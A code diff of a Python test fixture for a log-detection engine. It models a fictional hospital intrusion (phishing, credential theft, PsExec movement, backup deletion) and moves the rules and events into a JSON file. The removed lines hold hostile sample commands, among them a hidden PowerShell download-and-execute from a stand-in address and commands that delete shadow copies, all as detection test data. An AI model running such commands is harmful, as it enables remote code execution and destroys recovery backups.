@@ -1,7 +1,9 @@
-"""A night at the Centre hospitalier de Valmont (fictif), made up: a phishing, a climb, backups deleted. No log is read."""
+"""A made-up night at the Centre hospitalier de Valmont (fictif): a phishing, a climb, backups deleted."""
 
+import json
 from collections import Counter
 from datetime import UTC, datetime, timedelta
+from pathlib import Path
 
 import pyarrow as pa
 
@@ -20,23 +22,11 @@ EVENING = datetime(2026, 11, 23, 21, 0, tzinfo=UTC)
 NAME = "Centre hospitalier de Valmont (fictif)"
 ANY = And(())
 
-# key: title, level, tags, source, code
+TOLD = json.loads(Path(__file__).with_name("night.json").read_text(encoding="utf-8"))
 RULES = {
-    "macro": ("Un document lance une commande", "high", ("attack.initial-access", "attack.t1566.001"), "windows/sysmon", "1"),
-    "powershell": ("PowerShell caché qui télécharge", "high", ("attack.execution", "attack.t1059.001"), "windows/sysmon", "1"),
-    "beacon": ("Appels réguliers vers une adresse nue", "medium", ("attack.command-and-control", "attack.t1071.001"), "windows/sysmon", "3"),
-    "lsass": ("Mémoire des mots de passe lue", "critical", ("attack.credential-access", "attack.t1003.001"), "windows/sysmon", "10"),
-    "survey": ("Annuaire exploré par une commande", "medium", ("attack.discovery", "attack.t1087.002"), "windows/sysmon", "1"),
-    "service": ("Service installé à distance (PsExec)", "high", ("attack.lateral-movement", "attack.t1021.002"), "windows/system", "7045"),
-    "task": ("Tâche planifiée cachée", "medium", ("attack.persistence", "attack.t1053.005"), "windows/security", "4698"),
-    "antivirus": ("Antivirus coupé", "high", ("attack.defense-impairment", "attack.t1685"), "windows/sysmon", "13"),
-    "shadow": ("Copies de secours Windows supprimées", "critical", ("attack.impact", "attack.t1490"), "windows/sysmon", "1"),
-    "veeam": ("Sauvegardes Veeam supprimées", "critical", ("attack.impact", "attack.t1490"), "windows/application", "0"),
-    "sudo": ("Droit d'administration refusé (sudo)", "medium", ("attack.privilege-escalation", "attack.t1548.003"), "linux/syslog", "sudo"),
-    "usb": ("Clé USB sur une station d'imagerie", "low", ("attack.initial-access", "attack.t1091"), "hospital/medical", "usb"),
-    "failed": ("Échec de connexion au VPN", "low", ("attack.credential-access", "attack.t1110"), "hospital/vpn", "login"),
-    "cloud": ("Règle de messagerie qui cache des messages", "medium", ("attack.stealth", "attack.t1564.008"), "cloud/m365", ""),
-}  # fmt: skip
+    key: (told["title"], told["level"], tuple(told["tags"]), told["source"], told["code"])
+    for key, told in TOLD["rules"].items()
+}
 GATHERED = ("failed",)
 NUMBERS = {key: number for number, key in enumerate(RULES)}
 
@@ -61,7 +51,11 @@ def about(key: str, title: str, level: str, tags: tuple[str, ...], logsource: st
 
 def compiled() -> Compiled:
     rules = tuple(
-        Rule(about(key, title, level, tags, source), (Scope(source, (code,) if code else None, ANY),), key not in GATHERED)
+        Rule(
+            about(key, title, level, tags, source),
+            (Scope(source, (code,) if code else None, ANY),),
+            key not in GATHERED,
+        )
         for key, (title, level, tags, source, code) in RULES.items()
     )
     vpn = Correlation(
@@ -88,37 +82,20 @@ def when(clock: str) -> datetime:
     return day + timedelta(hours=hours, minutes=minutes, seconds=seconds[0] if seconds else 0)
 
 
-POSTE, SECOURS, DC, VEEAM = "PC-ADMISSION-14", "SRV-FICHIERS-02", "DC-VALMONT-01", "SRV-SAUVEGARDE"
-OUT = "203.0.113.77"
-# moment, rule, host, user, address, event, sought by field
-STORY = [
-    ("22:41", "macro", POSTE, "VALMONT\\c.leroy", "", {"Image": "C:\\Windows\\System32\\cmd.exe", "ParentImage": "C:\\Program Files\\Microsoft Office\\WINWORD.EXE", "CommandLine": "cmd /c start powershell"}, {"ParentImage": "*\\WINWORD.EXE", "Image": "*\\cmd.exe"}),
-    ("22:42", "powershell", POSTE, "VALMONT\\c.leroy", "", {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell -w hidden -nop -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a')"}, {"CommandLine": "*-w hidden*"}),
-    *((f"{clock}:{40:02d}", "beacon", POSTE, "VALMONT\\c.leroy", "10.20.14.31", {"Image": "C:\\Users\\Public\\svc.exe", "SourceIp": "10.20.14.31", "DestinationIp": OUT, "DestinationPort": "443", "Tour": clock}, {"DestinationIp": OUT}) for clock in ("22:44", "22:54", "23:04", "23:14", "23:24", "23:34", "23:44", "23:54", "00:04")),
-    ("23:05", "survey", POSTE, "VALMONT\\c.leroy", "", {"Image": "C:\\Windows\\System32\\net.exe", "CommandLine": "net group \"Domain Admins\" /domain"}, {"CommandLine": "*domain admins*"}),
-    ("23:31", "lsass", POSTE, "VALMONT\\c.leroy", "", {"SourceImage": "C:\\Users\\Public\\svc.exe", "TargetImage": "C:\\Windows\\System32\\lsass.exe", "GrantedAccess": "0x1410"}, {"TargetImage": "*\\lsass.exe", "GrantedAccess": "0x1410"}),
-    ("00:12", "service", SECOURS, "VALMONT\\adm.martin", "10.20.14.31", {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe"}, {"ServiceName": "psexesvc"}),
-    ("00:19", "service", DC, "VALMONT\\adm.martin", "10.20.14.31", {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe"}, {"ServiceName": "psexesvc"}),
-    ("00:25", "task", DC, "VALMONT\\adm.martin", "", {"TaskName": "\\Microsoft\\Windows\\MajLocale", "TaskContent": "<Exec><Command>svc.exe</Command></Exec>"}, {"TaskContent": "*<Command>*"}),
-    ("01:48", "antivirus", VEEAM, "VALMONT\\adm.martin", "", {"TargetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware", "Details": "DWORD (0x00000001)"}, {"TargetObject": "*\\DisableAntiSpyware"}),
-    ("02:14", "shadow", VEEAM, "VALMONT\\adm.martin", "", {"Image": "C:\\Windows\\System32\\vssadmin.exe", "CommandLine": "vssadmin.exe Delete Shadows /All /Quiet"}, {"CommandLine": "*delete*shadows*"}),
-    ("02:14:30", "shadow", VEEAM, "VALMONT\\adm.martin", "", {"Image": "C:\\Windows\\System32\\wbem\\WMIC.exe", "CommandLine": "wmic shadowcopy delete"}, {"CommandLine": "*shadowcopy*delete*"}),
-    ("02:16", "veeam", VEEAM, "VALMONT\\adm.martin", "", {"Message": "Backup « Dossier patient - quotidien » deleted by VALMONT\\adm.martin"}, {"Message": "*deleted*"}),
-    ("23:50", "sudo", "web-intranet", "stagiaire", "", {"program": "sudo", "message": "stagiaire : user NOT in sudoers"}, {"message": "*NOT in sudoers*"}),
-    ("02:40", "usb", "SCANNER-IRM-2", "", "", {"device": "USB DISK 3.0"}, {"device": "USB*"}),
-    *((f"21:{10 + n:02d}", "failed", "vpn", "d.morel", "198.51.100.9", {"result": "failure"}, {"result": "failure"}) for n in range(8)),
-]  # fmt: skip
+STORY = [tuple(row.values()) for row in TOLD["story"]]
+"""Moment, rule, machine, account, address, whole event, what the rule seeks by field."""
 
 
 def matched(story=None) -> pa.Table:
     rows = []
     for place, (clock, key, host, user, address, event, _) in enumerate(STORY if story is None else story):
         _, _, _, source, code = RULES[key]
+        file = f"/journaux/{source.replace('/', '-')}.jsonl"
         rows.append(
             {
-                "rule": NUMBERS[key], "source": source, "code": code, "file": f"/journaux/{source.replace('/', '-')}.jsonl",
-                "offset": place * 1000, "length": len(str(event)), "time": when(clock) if clock else None,
-                "host": host or None, "user": user or None, "address": address or None,
+                "rule": NUMBERS[key], "source": source, "code": code, "file": file, "offset": place * 1000,
+                "length": len(str(event)), "time": when(clock) if clock else None, "host": host or None,
+                "user": user or None, "address": address or None,
             }
         )  # fmt: skip
     return pa.Table.from_pylist(rows, schema=MATCHED)
@@ -127,7 +104,8 @@ def matched(story=None) -> pa.Table:
 def correlated() -> pa.Table:
     rows = [place for place, told in enumerate(STORY) if told[1] == "failed"]
     burst = {
-        "rule": len(RULES), "first": when("21:10"), "last": when("21:17"), "keys": ["d.morel"], "measured": 8.0, "rows": rows,
+        "rule": len(RULES), "first": when("21:10"), "last": when("21:17"), "keys": ["d.morel"], "measured": 8.0,
+        "rows": rows,
     }  # fmt: skip
     return pa.Table.from_pylist([burst], schema=CORRELATED)
 
